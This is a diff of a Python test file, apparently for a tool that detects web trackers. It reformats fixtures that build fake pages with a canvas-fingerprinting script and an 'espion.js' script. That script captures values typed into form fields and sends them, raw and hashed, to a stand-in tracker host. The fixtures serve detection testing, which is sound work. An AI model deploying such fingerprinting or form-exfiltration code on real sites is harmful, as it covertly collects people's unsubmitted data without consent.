@@ -78,8 +78,9 @@ document.cookie = "cadre=3f1c9a7e5d2b8046; SameSite=None; Secure; max-age=315360
 
 
 def test_fingerprints_and_recorders_are_told_from_drawings(stage: Any) -> None:
-    stage.tool({"index.html": f"<h1>Outil</h1><script src={TRACKER}fp.js></script><script src=/jeu.js></script>",
-                "jeu.js": 'const c = document.createElement("canvas"); c.getContext("2d").fillRect(0, 0, 9, 9); c.toDataURL();'})  # fmt: skip
+    drawing = """const c = document.createElement("canvas"); c.getContext("2d").fillRect(0, 0, 9, 9); c.toDataURL();"""
+    home = f"<h1>Outil</h1><script src={TRACKER}fp.js></script><script src=/jeu.js></script>"
+    stage.tool({"index.html": home, "jeu.js": drawing})
     stage.tracker(
         {
             "fp.js": """const c = document.createElement("canvas"); c.width = 240; const x = c.getContext("2d");
@@ -109,8 +110,10 @@ def test_what_is_typed_and_never_submitted_is_seen_to_leave(stage: Any) -> None:
         {
             "espion.js": f"""document.addEventListener("change", async (e) => {{
   const bytes = new TextEncoder().encode(e.target.value.toLowerCase());
-  const hash = [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))].map((b) => b.toString(16).padStart(2, "0")).join("");
-  new Image().src = "{TRACKER}h.gif?em=" + hash; fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: e.target.value }});
+  const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
+  const hash = [...digest].map((b) => b.toString(16).padStart(2, "0")).join("");
+  new Image().src = "{TRACKER}h.gif?em=" + hash;
+  fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: e.target.value }});
 }});"""
         }
     )
